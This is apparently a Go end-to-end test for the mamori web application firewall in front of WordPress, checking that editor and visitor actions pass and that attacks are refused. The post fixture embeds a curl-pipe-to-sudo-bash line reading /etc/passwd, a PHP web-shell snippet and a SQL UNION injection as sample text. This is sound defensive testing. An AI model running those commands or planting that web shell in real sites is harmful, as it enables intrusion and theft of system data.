// Package wordpress runs a real WordPress (Debian's package), a real
// MariaDB and PHP, and a real headless Chromium behind the built mamori
// binary with `profile wordpress` and the defaults (issue 14; checklist
// V2, V6, V8, V12, B2, S1, S5, S8). An editor works in the browser as an
// editor would, an anonymous visitor reads, searches and comments; mamori
// must refuse none of it and must refuse the attacks that follow, which
// reach WordPress when mamori runs in detect mode.
//
// `make e2e-wordpress` installs the packages (tests/wordpress/setup.sh)
// and runs this test; without the packages it skips, except in CI.
package wordpress

import (
	"encoding/json"
	"fmt"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
	"github.com/mamori-waf/mamori/tests/harness"
)

// TestMain scans every mamori log the test kept for the passwords it
// sent (S8).
func TestMain(m *testing.M) { os.Exit(harness.RunAndScan(m)) }

const (
	editorUser = "editor"
	// editorPassword is strong enough for mamori's password policy.
	editorPassword = "Gentle-Harbor-Lantern-1987!"
	// newPassword replaces it in the profile screen.
	newPassword = "Copper-Meadow-Violin-2031?"
	// weakPassword is refused by mamori's policy.
	weakPassword = "password123"
)

// The post the editor writes: every block the issue names, code that looks
// like attacks, embeds, Japanese. The markup is what the block editor
// itself serialises for these blocks.
const postTitle = "Plan review 42: O'Reilly & 日本語"

var postBlocks = strings.Join([]string{
	"<!-- wp:paragraph -->\n<p>Quarterly notes from O'Reilly &amp; Sons: \"quotes\", 100% <em>emphasis</em>, and a <a href=\"https://example.org/docs?a=1&amp;b=2\">link</a>.</p>\n<!-- /wp:paragraph -->",
	"<!-- wp:heading -->\n<h2>How to select the best plan</h2>\n<!-- /wp:heading -->",
	"<!-- wp:list -->\n<ul><li>Compare costs; drop the rest</li><li>Run <code>rm -rf ./build &amp;&amp; make</code> before you ship</li></ul>\n<!-- /wp:list -->",
	"<!-- wp:table -->\n<figure class=\"wp-block-table\"><table><tbody><tr><td>Plan</td><td>Cost</td></tr><tr><td>select the best plan</td><td>1 OR 1=1</td></tr></tbody></table></figure>\n<!-- /wp:table -->",
	"<!-- wp:code -->\n<pre class=\"wp-block-code\"><code>SELECT id, title FROM plans WHERE owner = 'O''Reilly' UNION SELECT 1, name FROM users; -- compare\ncurl -s https://example.com/install.sh | sudo bash -c \"cat /etc/passwd &gt; /tmp/x\"\n&lt;?php echo shell_exec($_GET['cmd']); system('ls -la /etc'); ?&gt;</code></pre>\n<!-- /wp:code -->",
	"<!-- wp:html -->\n<script async src=\"https://platform.twitter.com/widgets.js\" charset=\"utf-8\"></script>\n<iframe width=\"560\" height=\"315\" src=\"https://www.youtube.com/embed/dQw4w9WgXcQ\" title=\"YouTube video player\" frameborder=\"0\" allowfullscreen></iframe>\n<!-- /wp:html -->",
	"<!-- wp:paragraph -->\n<p>日本語の段落です。セキュリティ対策について説明します。</p>\n<!-- /wp:paragraph -->",
}, "\n\n")

// A comment with quotes, code and URLs, as a visitor would write it.
// Shell in backticks (`make check && make install`, CRS 932235) and C
// (`if (a < b) { return max(a, b); }`, 942230) are refused: public comments
// keep CRS's PL1 checks (docs/profiles.md, docs/wordpress-e2e.md).
const commentText = "I'd say \"it's fine\" — but O'Reilly's book says to write print(\"hello, world\") first; " +
	"see https://example.org/docs?page=2&lang=ja for the details. 日本語のコメントです。 #c42"

type stack struct {
	t        *testing.T
	art      string
	root     string
	php      string
	chromium string
	siteURL  string
}

func TestWordPress(t *testing.T) {
	chromium := requirePackages(t)
	harness.Secret(editorPassword, newPassword)
	art := artifacts(t)
	dir := t.TempDir()
	socket := startMariaDB(t, dir, art)
	root := wordpressRoot(t, dir, socket, art)
	php := startPHP(t, root, art)
	m := startMamori(t, "block", php, art)
	base := site(m)
	installWordPress(t, m, editorUser, editorPassword)
	st := &stack{t: t, art: art, root: root, php: php, chromium: chromium, siteURL: base}

	ed := newBrowser(t, chromium, "editor", art)
	anon := newBrowser(t, chromium, "visitor", art)
	var post postResult
	var session []*sessionCookie
	var nonce, ua string
	var commentID string

	ok := t.Run("login", func(t *testing.T) {
		logIn(t, ed, base, editorUser, editorPassword)
		cs := sealedSessionCookies(ed.cookies(t, base))
		if len(cs) == 0 {
			t.Fatal("no WordPress session cookie in the browser")
		}
		for name, sealed := range cs {
			if !sealed {
				t.Errorf("session cookie %s in the browser is not sealed by mamori", name)
			}
		}
	})
	if !ok {
		t.FailNow()
	}

	t.Run("block_editor_post", func(t *testing.T) {
		post = writePost(t, ed, base)
	})

	t.Run("visitor_reads_searches_comments", func(t *testing.T) {
		if post.ID == 0 {
			t.Skip("no post")
		}
		anon.do(t, "read post", navigate(post.Link))
		text := bodyText(t, anon, "post text")
		for _, want := range []string{"How to select the best plan", "日本語の段落です", "select the best plan"} {
			if !strings.Contains(text, want) {
				t.Errorf("the published post does not show %q:\n%.2000s", want, text)
			}
		}
		for _, q := range []string{"O'Reilly", "select the best plan", "日本語"} {
			anon.do(t, "search "+q, navigate(base+"/?s="+url.QueryEscape(q)))
			if text := bodyText(t, anon, "search results"); !strings.Contains(text, "Plan review 42") {
				t.Errorf("search %q does not find the post:\n%.1500s", q, text)
			}
		}
		commentID = postComment(t, anon, post.Link)
	})

	t.Run("approve_comment", func(t *testing.T) {
		if commentID == "" {
			t.Skip("no comment")
		}
		ed.do(t, "moderation queue", navigate(base+"/wp-admin/edit-comments.php?comment_status=moderated"),
			waitJS(`document.querySelector("#comment-`+commentID+` .approve a") !== null`),
			// The row actions show on hover; WordPress's own handler
			// approves by admin-ajax.php (action=dim-comment).
			waitJS(`(document.querySelector("#comment-`+commentID+` .approve a").click(), true)`),
			waitJS(`(r => !r || r.offsetParent === null || !r.classList.contains("unapproved"))(document.querySelector("#comment-`+commentID+`"))`))
		anon.do(t, "approved comment", navigate(post.Link))
		if text := bodyText(t, anon, "comments"); !strings.Contains(text, "#c42") || !strings.Contains(text, "日本語のコメントです") {
			t.Errorf("the approved comment is not on the post:\n%.3000s", text)
		}
	})

	t.Run("media_upload_alt_text", func(t *testing.T) { uploadImage(t, ed, base) })
	t.Run("theme_file_editor", func(t *testing.T) { themeEditor(t, ed, base, root) })
	t.Run("customizer_additional_css", func(t *testing.T) { customizerCSS(t, ed, anon, base) })
	t.Run("menu", func(t *testing.T) { buildMenu(t, ed, anon, base) })
	password := editorPassword
	t.Run("profile_and_strong_password", func(t *testing.T) {
		profileAndPassword(t, ed, base)
		password = newPassword
	})

	t.Run("editor_session_cookies", func(t *testing.T) {
		session = snapshotCookies(ed.cookies(t, base))
		ua = eval[string](t, ed, "user agent", `navigator.userAgent`)
		nonce = eval[string](t, ed, "rest nonce", `(async () => (await fetch("/wp-admin/admin-ajax.php?action=rest-nonce", {credentials: "same-origin"})).text())()`)
		if nonce == "" || nonce == "0" {
			t.Fatalf("no REST nonce for the editor: %q", nonce)
		}
	})

	// The whole session so far: no refusal, no blocked event, and WordPress
	// saw its own cookies (never a sealed value) and the editor.
	t.Run("session_clean", func(t *testing.T) {
		assertNoRefusal(t, m)
		assertProbeSawEditor(t, art)
	})

	// mamori's password policy refuses a weak password with its page, even
	// when the editor confirmed it in WordPress's form.
	t.Run("weak_password_refused", func(t *testing.T) {
		before := len(readJSONLines[accessLine](t, filepath.Join(m.LogDir, "access.log")))
		weakPasswordRefused(t, ed, base)
		var refused []accessLine
		for _, l := range readJSONLines[accessLine](t, filepath.Join(m.LogDir, "access.log"))[before:] {
			if l.Verdict == "blocked" {
				refused = append(refused, l)
			}
		}
		if len(refused) != 1 || refused[0].Guard != "password" || refused[0].Status != 422 {
			t.Errorf("want one refusal by the password policy (422), got %+v", refused)
		}
	})

	// A cross-site write to REST with the editor's live cookies (and even
	// the nonce): refused while the session is alive.
	t.Run("cross_site_rest_write_refused", func(t *testing.T) {
		attackCrossSite(t, m, "block", session, nonce, ua)
	})

	t.Run("logout_and_replay", func(t *testing.T) {
		ed.do(t, "admin", navigate(base+"/wp-admin/"))
		href := eval[string](t, ed, "logout link", `document.querySelector("#wp-admin-bar-logout a").href`)
		ed.do(t, "log out", navigate(href), waitJS(`location.search.includes("loggedout=true")`))
		replayAfterLogout(t, m, session, ua, art)
	})

	t.Run("attacks_refused", func(t *testing.T) {
		attacks := attackTable(t, st, post.ID)
		runAttacks(t, st, m, "block", attacks)
	})

	t.Run("attacks_reach_wordpress_in_detect_mode", func(t *testing.T) {
		d := startMamori(t, "detect", php, art)
		attacks := attackTable(t, st, post.ID)
		runAttacks(t, st, d, "detect", attacks)
		cookies, dnonce := goLogin(t, site(d), editorUser, password)
		attackCrossSite(t, d, "detect", cookies, dnonce, "Go-http-client/1.1")
	})
}

// logIn logs in with the login form. The form focuses and selects the
// user name field 200 ms after it loads (wp-login.php's
// wp_attempt_focus): keys typed before that were selected and replaced
// by the next ones ("editor" arrived as "itor"), so typing waits for it.
func logIn(t *testing.T, b *browser, base, user, password string) {
	t.Helper()
	b.do(t, "login form", navigate(base+"/wp-login.php"),
		chromedp.WaitVisible(chromedp.ID("user_login")),
		waitJS(`document.activeElement !== null && document.activeElement.id === "user_login"`),
		chromedp.SendKeys(chromedp.ID("user_login"), user),
		chromedp.SendKeys(chromedp.ID("user_pass"), password),
		chromedp.Click(chromedp.ID("wp-submit")),
		waitJS(`location.pathname.startsWith("/wp-admin") && document.readyState === "complete" && document.querySelector("#wpadminbar") !== null`))
}

type postResult struct {
	OK      bool     `json:"ok"`
	ID      int      `json:"id"`
	Content string   `json:"content"`
	Status  string   `json:"status"`
	Link    string   `json:"link"`
	Preview string   `json:"preview"`
	Notices []string `json:"notices"`
}

// editorReady is true once the block editor has loaded the post.
const editorReady = `typeof wp !== "undefined" && wp.data && wp.blocks && wp.data.select("core/editor") &&
	wp.data.select("core/editor").getCurrentPostId() > 0 && document.querySelector(".block-editor-writing-flow") !== null`

// saveJS saves the post the way the editor's buttons do (savePost sends the
// real REST request with the editor's nonce) and reports what was saved.
const saveJS = `(async () => {
	const {select, dispatch} = wp.data;
	%s
	await dispatch("core/editor").savePost();
	const e = select("core/editor");
	return {ok: e.didPostSaveRequestSucceed(), id: e.getCurrentPostId(), content: e.getEditedPostContent(),
		status: e.getEditedPostAttribute("status"), link: e.getPermalink() || "", preview: e.getEditedPostPreviewLink() || "",
		notices: select("core/notices").getNotices().map(n => String(n.content))};
})()`

func save(t *testing.T, b *browser, step, edits string) postResult {
	t.Helper()
	r := eval[postResult](t, b, step, fmt.Sprintf(saveJS, edits))
	if !r.OK {
		t.Fatalf("%s: the editor's save failed: %+v", step, r.Notices)
	}
	return r
}

// writePost writes the post in the block editor, saves a draft, previews
// it, publishes and updates it, and checks that WordPress stored what the
// editor sent. Typing into the block editor's contenteditable blocks with
// synthetic key events is brittle, so the blocks are built with the
// editor's own JavaScript API (wp.blocks.parse, the core/block-editor and
// core/editor stores) inside the real browser session: the real editor
// then sends its real REST requests (autosave, save, publish) through
// mamori with its nonce and cookies.
func writePost(t *testing.T, b *browser, base string) postResult {
	t.Helper()
	blocks, _ := json.Marshal(postBlocks)
	title, _ := json.Marshal(postTitle)
	b.do(t, "new post", navigate(base+"/wp-admin/post-new.php"), waitJS(editorReady))
	draft := save(t, b, "save draft", `const blocks = wp.blocks.parse(`+string(blocks)+`);
	dispatch("core/editor").editPost({title: `+string(title)+`});
	dispatch("core/block-editor").resetBlocks(blocks);`)
	if draft.Status != "draft" {
		t.Errorf("after save draft: status %q", draft.Status)
	}

	// Preview in a second tab of the same browser, as the Preview button does.
	if draft.Preview == "" {
		t.Fatal("no preview link")
	}
	tab, cancel := chromedp.NewContext(b.ctx)
	defer cancel()
	// The first Run opens the tab, which lives as long as that call's
	// context: no timeout on it.
	if err := chromedp.Do(tab); err != nil {
		t.Fatal(err)
	}
	pv := &browser{ctx: tab, name: b.name + "-preview", shots: b.shots}
	pv.do(t, "preview", navigate(draft.Preview))
	if text := bodyText(t, pv, "preview text"); !strings.Contains(text, "日本語の段落です") || !strings.Contains(text, "How to select the best plan") {
		t.Errorf("the preview does not show the draft:\n%.2000s", text)
	}

	pub := save(t, b, "publish", `dispatch("core/editor").editPost({status: "publish"});`)
	if pub.Status != "publish" {
		t.Errorf("after publish: status %q", pub.Status)
	}
	upd := save(t, b, "update", `dispatch("core/block-editor").insertBlocks(wp.blocks.parse("<!-- wp:paragraph -->\n<p>Updated: see the table above; 更新しました。</p>\n<!-- /wp:paragraph -->"));`)

	// What WordPress stored, read back through REST as the editor.
	stored := eval[struct {
		Raw    string `json:"raw"`
		Title  string `json:"title"`
		Status string `json:"status"`
	}](t, b, "read back", fmt.Sprintf(`(async () => { const p = await wp.apiFetch({path: "/wp/v2/posts/%d?context=edit"});
		return {raw: p.content.raw, title: p.title.raw, status: p.status}; })()`, upd.ID))
	if stored.Raw != upd.Content {
		t.Errorf("WordPress stored other content than the editor sent:\nsent:   %q\nstored: %q", upd.Content, stored.Raw)
	}
	if stored.Title != postTitle || stored.Status != "publish" {
		t.Errorf("stored title %q status %q", stored.Title, stored.Status)
	}
	for _, want := range []string{"UNION SELECT 1, name FROM users", "shell_exec(", "<script", "platform.twitter.com/widgets.js", "<iframe", "日本語の段落です", "更新しました", "<table>"} {
		if !strings.Contains(stored.Raw, want) {
			t.Errorf("the stored post lost %q", want)
		}
	}
	return upd
}

// postComment posts the visitor's comment and returns its ID (held for
// moderation: the visitor has no approved comment yet).
func postComment(t *testing.T, b *browser, link string) string {
	t.Helper()
	b.do(t, "comment form", navigate(link),
		chromedp.WaitVisible(chromedp.ID("comment")),
		chromedp.SendKeys(chromedp.ID("comment"), commentText),
		chromedp.SendKeys(chromedp.ID("author"), "Pat O'Brien"),
		chromedp.SendKeys(chromedp.ID("email"), "pat@example.org"),
		chromedp.SendKeys(chromedp.ID("url"), "https://pat.example.org/blog?x=1&y=2"),
		chromedp.Click(chromedp.ID("submit")),
		waitJS(`location.search.includes("unapproved=") && document.readyState === "complete"`))
	loc := eval[string](t, b, "comment posted", `location.href`)
	u, err := url.Parse(loc)
	if err != nil || u.Query().Get("unapproved") == "" {
		t.Fatalf("comment not held for moderation: %s", loc)
	}
	if text := bodyText(t, b, "comment awaiting"); !strings.Contains(text, "#c42") {
		t.Errorf("the visitor does not see the comment awaiting moderation:\n%.2000s", text)
	}
	return u.Query().Get("unapproved")
}
